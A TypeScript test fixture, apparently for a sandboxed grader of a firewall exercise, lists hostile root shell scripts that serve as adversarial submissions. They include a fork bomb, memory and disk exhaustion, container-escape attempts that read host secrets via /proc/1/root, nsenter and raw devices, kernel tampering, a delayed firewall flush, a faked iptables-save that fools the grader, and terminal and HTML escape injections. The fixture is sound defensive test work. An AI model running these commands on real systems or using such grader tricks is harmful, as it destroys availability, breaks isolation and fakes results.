import { filesAt, type Hostile, type Target } from './hostile.ts';

const file = filesAt('firewall.sh');
const script = (name: string, tries: string, most: number, text: string | ((target: Target) => string)): Hostile =>
  file(name, tries, most, (target) => `#!/bin/bash\n${typeof text === 'string' ? text : text(target)}\n`);

/** What the exercise asks for, so that what is hostile is all that could cost points. */
const good = 'ufw default deny incoming; ufw allow 22/tcp; ufw allow 80/tcp; ufw allow 443/tcp; ufw --force enable';

/** Hostile submissions of the exercise `server-firewall`: one script each, run as root of its container. */
export const hostileScripts: readonly Hostile[] = [
  script('root-fork-bomb', 'have as many processes as there can be', 5, 'f() { f | f & }; f; wait'),
  script(
    'root-memory',
    'take all memory',
    5,
    'for i in 1 2 3; do head -c 8G /dev/zero | tail & done; wait; sleep infinity',
  ),
  script(
    'root-disk',
    'fill every place that can be written',
    100,
    `for d in /etc/ufw /etc/default /root /run /tmp /var/lib /var/log /dev/shm; do
  head -c 1G /dev/zero >$d/full; rm -f $d/full; done; ${good}`,
  ),
  script('root-log', 'write without end', 5, 'yes "$(head -c 900 /dev/zero | tr "\\0" x)"'),
  script(
    'root-host',
    'connect to the host',
    100,
    ({ hosts, port }) =>
      `${hosts.map((host) => `timeout 1 bash -c 'exec 3<>/dev/tcp/${host}/${port}'`).join('\n')}\n${good}`,
  ),
  script(
    'root-host-files',
    'read files of the host as root',
    5,
    ({ secret }) =>
      `cat ${secret} /proc/1/root${secret}; cat /proc/1/environ; ls /var/run/docker.sock; mount -t proc p /mnt
mknod /tmp/d b 8 0 && cat /tmp/d; nsenter -t 1 -a cat ${secret}; mount; exit 1`,
  ),
  script(
    'root-kernel',
    'change settings of the kernel',
    100,
    ({ trace }) =>
      `echo '|/bin/touch ${trace}' >/proc/sys/kernel/core_pattern; echo b >/proc/sysrq-trigger; echo 1 >/proc/sys/vm/panic_on_oom
sysctl -w kernel.panic=1 net.netfilter.nf_conntrack_max=1; echo 0 >/sys/fs/cgroup/cgroup.freeze; echo max >/sys/fs/cgroup/memory.max
unshare -Urm true; modprobe dummy; touch ${trace}; ${good}`,
  ),
  script(
    'root-deaf',
    'stay when it is told to go',
    5,
    `trap '' TERM INT HUP QUIT; setsid bash -c "trap '' TERM; while :; do sleep 1; done" & exec sleep infinity`,
  ),
  script(
    'root-kill-all',
    'end everything around it',
    5,
    'kill -9 -1; kill -9 1; kill -9 $PPID; while :; do kill -9 -1; done',
  ),
  script(
    'root-later',
    'open everything after it has been measured as closed',
    100,
    `${good}
(trap '' TERM HUP; setsid bash -c 'while :; do sleep 0.3; iptables -F; iptables -P INPUT ACCEPT; done') >/dev/null 2>&1 &`,
  ),
  script(
    'root-tools',
    'replace the tools that its rules are read with',
    80,
    `ln -sf /bin/true /usr/sbin/iptables-save
mkdir -p /root/bin; printf '#!/bin/sh\\necho "*filter"; echo ":INPUT DROP [0:0]"; echo COMMIT\\n' >/root/bin/iptables-save; chmod +x /root/bin/iptables-save
export PATH=/root/bin:$PATH; echo 'export PATH=/root/bin:$PATH' >>/root/.bashrc; alias iptables-save=/root/bin/iptables-save; ${good.replace('ufw --force enable', 'true')}`,
  ),
  script(
    'root-escapes',
    'write what terminals, pages and tables might obey',
    5,
    `for i in 1 2 3; do
printf '\\033]0;owned\\007\\033[2J<script>alert(1)</script>]]><x>\\n=cmd|calc!A0\\n\\342\\200\\256evil\\n'; apt-get "$(printf '\\033[2J<script>alert(1)</script>]]>')"; done; exit 7`,
  ),
  script(
    'root-many-rules',
    'have more rules than can be read',
    100,
    'for i in $(seq 300); do seq -f "-A INPUT -p tcp --dport %.0f -j ACCEPT" 1 60000; done | (echo "*filter"; cat; echo COMMIT) | iptables-restore',
  ),
];
